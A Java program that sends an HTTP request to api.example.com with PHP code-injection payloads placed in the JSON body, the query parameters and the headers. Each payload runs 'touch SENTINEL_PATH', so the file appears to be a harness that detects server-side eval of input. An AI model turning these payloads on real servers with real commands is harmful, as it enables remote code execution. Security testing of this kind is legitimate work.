import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Request {
    public static void main(String[] args) throws IOException, InterruptedException {
        String body = """
            {
              "values": [
                "{${system('touch SENTINEL_PATH')}}",
                "${system('touch SENTINEL_PATH')}",
                "' . system('touch SENTINEL_PATH') . '",
                "\\" . system(\\"touch SENTINEL_PATH\\") . \\"",
                "<?php system(\\"touch SENTINEL_PATH\\"); ?>"
              ],
              "keys": {
                "{${system('touch SENTINEL_PATH')}}": 0,
                "${system('touch SENTINEL_PATH')}": 1,
                "' . system('touch SENTINEL_PATH') . '": 2,
                "\\" . system(\\"touch SENTINEL_PATH\\") . \\"": 3,
                "<?php system(\\"touch SENTINEL_PATH\\"); ?>": 4
              },
              "nested": {
                "deeper": [
                  {
                    "text": "{${system('touch SENTINEL_PATH')}} ${system('touch SENTINEL_PATH')} ' . system('touch SENTINEL_PATH') . ' \\" . system(\\"touch SENTINEL_PATH\\") . \\" <?php system(\\"touch SENTINEL_PATH\\"); ?>"
                  }
                ]
              }
            }
            """;

        HttpRequest request = HttpRequest.newBuilder()
            .uri(URI.create("https://api.example.com/v1/payloads?value0=%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D&%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D=key0&value1=%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D&%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D=key1&value2=%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27&%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27=key2&value3=%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22&%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22=key3&value4=%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E&%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E=key4"))
            .header("Content-Type", "application/json")
            .header("Authorization", "Bearer {${system('touch SENTINEL_PATH')}}")
            .header("X-Payload-0", "{${system('touch SENTINEL_PATH')}}")
            .header("X-Payload-1", "${system('touch SENTINEL_PATH')}")
            .header("X-Payload-2", "' . system('touch SENTINEL_PATH') . '")
            .header("X-Payload-3", "\" . system(\"touch SENTINEL_PATH\") . \"")
            .header("X-Payload-4", "<?php system(\"touch SENTINEL_PATH\"); ?>")
            .POST(HttpRequest.BodyPublishers.ofString(body))
            .build();

        HttpResponse<String> response = HttpClient.newHttpClient()
            .send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(response.body());
    }
}
